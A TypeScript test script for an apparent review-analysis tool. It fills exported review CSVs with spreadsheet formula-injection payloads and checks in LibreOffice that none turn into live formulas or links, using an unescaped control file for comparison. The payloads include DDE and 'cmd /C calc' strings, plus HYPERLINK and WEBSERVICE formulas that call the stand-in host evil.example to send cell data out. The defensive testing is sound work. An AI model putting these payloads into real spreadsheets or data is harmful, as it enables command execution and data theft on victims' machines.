import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { DOMParser } from 'linkedom'
import type { Listing, Verdict } from '../src/engine/types.ts'
import { makeBundle } from '../src/report/bundle.ts'
import { loadReportWords } from '../src/report/words/index.ts'

/*
 * Opens reviews.csv of 500 hostile reviews in LibreOffice (soffice on the PATH), as a double click does and with every
 * option that lets a cell be more than text, and counts what became a formula, a number or a link, and whether long
 * digits came through. Not part of the tests: it needs LibreOffice. `node scripts/run.mjs csv-libreoffice`
 */

const ROWS = 500
const NOW = '2026-11-23T12:41:07Z'
/** Separators, quotes, UTF-8; quoted fields not as text, special numbers found, formulas evaluated. */
const WORST = 'CSV:44,34,76,1,,0,false,true,true,true,false,0,true'

const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  ' =',
  '\u3000=',
  '"=',
  "'=",
  '\u200b=',
  '";=',
  '",="',
  '\u202e=',
]
const BODIES = [
  '1+1',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1;"here")',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(A1)',
  '2026-11-08',
  '1e309',
  '{=1}',
]

/** Texts and long digits of row `n`, that stand in every column page text can reach. */
const hostile = (n: number): string =>
  `${TRIGGERS[n % TRIGGERS.length]}${BODIES[Math.floor(n / TRIGGERS.length) % BODIES.length]}`
const longDigits = (n: number): string => `${(7_000_000_000_000_000_000n + BigInt(n) * 7_919n).toString()}`

function made(): { listing: Listing; verdict: Verdict } {
  const reviews = Array.from({ length: ROWS }, (_, n) => ({
    ...{
      id: longDigits(n),
      reviewer: { id: null, name: `${hostile(n)}`, reviewCount: null, level: null },
      stars: 5,
      title: hostile(n),
    },
    ...{
      text: n % 2 === 0 ? hostile(n) : `good${hostile(n)}`,
      language: 'en',
      postedOn: '2026-11-08',
      purchasedOn: null,
      verified: null,
    },
    ...{
      programme: hostile(n + 1),
      helpful: null,
      variant: hostile(n + 2),
      photos: [],
      followUps: [{ text: hostile(n + 3), postedOn: null }],
      platformDefault: false,
    },
  }))
  const listing: Listing = {
    ...{ schema: 'brushlight/listing/1', site: '=1+1', id: '712345678901234567', url: '@SUM(1)', title: '=1+1' },
    ...{
      seller: { id: '2208800000001', name: '-1+1' },
      readAt: NOW,
      photos: [],
      coverage: { read: ROWS, stated: null, walled: false },
      gaps: [],
    },
    stated: { reviewCount: null, ratingCount: null, meanStars: null, histogram: null, sales: null },
    reviews,
  }
  const verdict: Verdict = {
    ...{
      schema: 'brushlight/verdict/1',
      listing: { site: '', id: '', url: '' },
      engine: '+1',
      judgedAt: NOW,
      band: 'no-signs',
      score: 1,
    },
    ...{
      interval: [0, 2],
      suspiciousShare: null,
      stars: { stated: null, adjusted: null, low: null, high: null, kept: 0 },
      findings: [],
      reviews: [],
    },
  }
  return { listing, verdict }
}

const sha256 = async (bytes: Uint8Array): Promise<Uint8Array> => createHash('sha256').update(bytes).digest()

interface Opened {
  rows: number
  cells: number
  formulas: number
  links: number
  /** Cells that became numbers, dates or truth values, with the header of their column. */
  typed: Map<string, number>
  texts: string[]
}

/** Converts with LibreOffice to its flat XML, and counts what the cells are. */
function opened(directory: string, file: string, filter: string | null): Opened {
  execFileSync(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${directory}/profile`,
      ...(filter === null ? [] : [`--infilter=${filter}`]),
      '--convert-to',
      'fods',
      '--outdir',
      directory,
      file,
    ],
    { stdio: 'ignore', timeout: 300_000 },
  )
  const document = new DOMParser().parseFromString(readFileSync(file.replace(/csv$/, 'fods'), 'utf8'), 'text/xml')
  const rows = [...document.querySelectorAll('table\\:table-row')].filter((row) => row.textContent?.trim() !== '')
  const seen: Opened = { rows: rows.length - 1, cells: 0, formulas: 0, links: 0, typed: new Map(), texts: [] }
  const cellsOf = (row: Element): Element[] =>
    [...row.children].flatMap((cell) =>
      Array<Element>(Math.min(99, Number(cell.getAttribute('table:number-columns-repeated') ?? 1))).fill(cell),
    )
  const header = cellsOf(rows[0] as Element).map((cell) => cell.textContent?.trim() ?? '')
  for (const row of rows.slice(1))
    cellsOf(row).forEach((cell, column) => {
      if (column >= header.length) return
      seen.cells++
      if (cell.hasAttribute('table:formula')) seen.formulas++
      if (cell.querySelector('text\\:a')) seen.links++
      const type = cell.getAttribute('office:value-type')
      if (type !== null && type !== 'string')
        seen.typed.set(header[column] ?? '', (seen.typed.get(header[column] ?? '') ?? 0) + 1)
      seen.texts.push(cell.textContent?.trim() ?? '')
    })
  return seen
}

const directory = mkdtempSync(path.join(tmpdir(), 'brushlight-csv-'))
try {
  const tool = { name: 'Brushlight', version: '=1+1' }
  const { bytes } = await makeBundle({ ...made(), words: await loadReportWords('en'), madeAt: NOW, tool }, sha256)
  const csv = unzipSync(bytes)['data/reviews.csv'] ?? new Uint8Array()
  const file = path.join(directory, 'reviews.csv')
  for (const [name, filter, content] of [
    ['as opened by default', null, csv],
    ['with every option on', WORST, csv],
    // The control: the same texts without our care, so that a reader that finds nothing is noticed.
    ['control, not made inert', WORST, new TextEncoder().encode(strFromU8(csv).replaceAll("'", ''))],
  ] as const) {
    writeFileSync(file, content)
    const seen = opened(directory, file, filter)
    const ids = Array.from({ length: ROWS }, (_, n) => `ID:${longDigits(n)}`)
    const all = new Set(seen.texts)
    const intact = ids.filter((id) => all.has(id)).length
    const typed = [...seen.typed].map(([column, n]) => `${column} ${n}`).join(', ') || 'none'
    process.stdout.write(
      `${name}: ${seen.rows} rows, ${seen.cells} cells, ${seen.formulas} formulas, ${seen.links} links, ${intact}/${ROWS} long ids intact; numbers and dates: ${typed}\n`,
    )
    const control = name.startsWith('control')
    if (control ? seen.formulas === 0 : seen.formulas > 0 || seen.links > 0 || intact < ROWS || seen.rows !== ROWS)
      process.exitCode = 1
  }
} finally {
  rmSync(directory, { recursive: true, force: true })
}
